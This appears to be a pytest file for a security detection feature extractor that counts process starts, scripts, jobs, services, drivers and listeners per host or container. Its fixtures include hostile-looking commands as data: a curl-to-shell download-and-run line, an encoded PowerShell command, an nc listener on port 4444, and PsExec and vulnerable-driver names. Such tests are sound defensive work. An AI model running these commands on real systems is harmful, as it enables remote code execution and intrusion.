"""What processes, scripts, tasks, services and listeners count to."""

from __future__ import annotations

from typing import Any

import pytest

from tests.features.build import amounts, by_entity, distinct, enriched, event, folded, of, values
from tests.features.everything import CONTAINER, DEVICE, SHELL

HOST = "host:ws-1"


def launch(at: int = 0, **process: Any) -> Any:
    """Make the start of a shell."""
    return event(1007, 1, at=at, device=DEVICE, process=SHELL | process)


def test_a_process_says_what_by_what_from_which_file_and_how() -> None:
    command = "/bin/sh -c 'curl http://198.51.100.9/x | sh'"
    found = of(HOST, launch(parent_process={"file": {"name": "Java.EXE"}}, cmd_line=command))
    assert amounts(found) == {"processes": 1}
    assert values(found) == {"image": {"sh"}, "parent_child": {"java.exe>sh"}, "binary": {"ab" * 32}}
    assert distinct(found) == {"images": 1}
    length, entropy = found.peaks["command_length"], found.peaks["command_entropy"]
    assert (length.value, length.text) == (len(command), command)
    assert 3_500 < entropy.value < 4_500


def test_the_parent_is_who_acts_where_it_is_not_named() -> None:
    started = event(1007, 1, device=DEVICE, process=SHELL, actor={"process": {"file": {"path": r"C:\a\W3WP.exe"}}})
    assert values(of(HOST, started))["parent_child"] == {"w3wp.exe>sh"}


def test_a_program_without_a_hash_is_told_by_its_path() -> None:
    file = {"name": "sh", "path": "/bin/SH", "hashes": [None, {"value": 7}]}
    assert values(of(HOST, launch(file=file)))["binary"] == {"/bin/sh"}
    both = [{"algorithm_id": 1, "value": "md5"}, {"algorithm_id": 3, "value": "SHA256"}]
    assert values(of(HOST, launch(file=file | {"hashes": both})))["binary"] == {"sha256"}


def test_what_runs_in_a_container_counts_for_the_container() -> None:
    found = by_entity(launch(container=CONTAINER))
    assert set(found) == {"workload:cdcdcdcdcdcd"}
    assert found["workload:cdcdcdcdcdcd"].peers == "registry.example.com/web"
    assert values(found["workload:cdcdcdcdcdcd"])["container_image"] == {"registry.example.com/web@sha256:1"}


def test_the_peers_of_a_host_are_those_of_its_environment_unless_its_group_is_known() -> None:
    known = enriched(launch(), {"device": {"environment": "production", "criticality": "high"}})
    assert of(HOST, known).peers == "assets-production"
    assert of(HOST, enriched(launch(), {"device": {"environment": "production", "peer_group": "web"}})).peers == "web"
    assert of(HOST, enriched(launch(), {"device": {"environment": ["production"]}})).peers == ""


@pytest.mark.parametrize("body", [{"status_id": 2}, {"device": {}}])
def test_what_did_not_start_or_nobody_knows_where_counts_for_nobody(body: dict[str, Any]) -> None:
    assert folded([event(1007, 1, **({"device": DEVICE, "process": SHELL} | body))]) == ()


@pytest.mark.parametrize("activity", [0, 2, 3, 5, 99])
def test_only_starts_and_injections_count(activity: int) -> None:
    assert folded([event(1007, activity, device=DEVICE, process=SHELL)]) == ()
    assert amounts(of(HOST, event(1007, 4, device=DEVICE, process=SHELL))) == {"injections": 1}


def test_the_most_random_command_is_kept_and_not_the_longest() -> None:
    calm, wild = "echo " + "a" * 100, "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
    found = of(HOST, launch(0, cmd_line=calm), launch(1, cmd_line=wild))
    assert found.peaks["command_entropy"].text == wild
    assert found.peaks["command_length"].text == calm


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ({"class_uid": 1009, "activity": 1, "script": {"script_content": {"value": "x"}}}, {"scripts": 1}),
        ({"class_uid": 1006, "activity": 1, "job": {"name": "T"}}, {"jobs_created": 1}),
        ({"class_uid": 201004, "activity": 1, "win_service": {"name": "S"}}, {"services_created": 1}),
        ({"class_uid": 1001, "activity": 1}, {"file_changes": 1}),
        ({"class_uid": 1001, "activity": 3}, {"file_changes": 1}),
        ({"class_uid": 1001, "activity": 5}, {"file_changes": 1}),
        ({"class_uid": 1001, "activity": 10}, {"file_changes": 1}),
        ({"class_uid": 1001, "activity": 4}, {"file_deletions": 1}),
        ({"class_uid": 4001, "activity": 7}, {"listeners": 1}),
    ],
)
def test_deeds_are_counted_by_their_kind(body: dict[str, Any], told: dict[str, int]) -> None:
    class_uid, activity = body.pop("class_uid"), body.pop("activity")
    assert amounts(of(HOST, event(class_uid, activity, device=DEVICE, **body))) == told


def test_names_of_what_was_made_are_kept() -> None:
    found = of(
        HOST,
        event(1006, 1, device=DEVICE, job={"name": r"\Updater"}),
        event(201004, 1, device=DEVICE, win_service={"name": "PSEXESVC"}),
        event(1002, 1, device=DEVICE, driver={"file": {"name": "RTCore64.sys"}}),
        event(4001, 7, device=DEVICE, src_endpoint={"port": 4444}, actor={"process": {"name": "nc"}}),
    )
    assert values(found) == {
        "job": {r"\updater"},
        "service": {"psexesvc"},
        "driver": {"rtcore64.sys"},
        "listener": {"nc 4444/ip"},
    }


@pytest.mark.parametrize("class_uid", [1006, 201004])
def test_what_was_refused_was_not_made(class_uid: int) -> None:
    assert folded([event(class_uid, 1, device=DEVICE, status_id=2)]) == ()
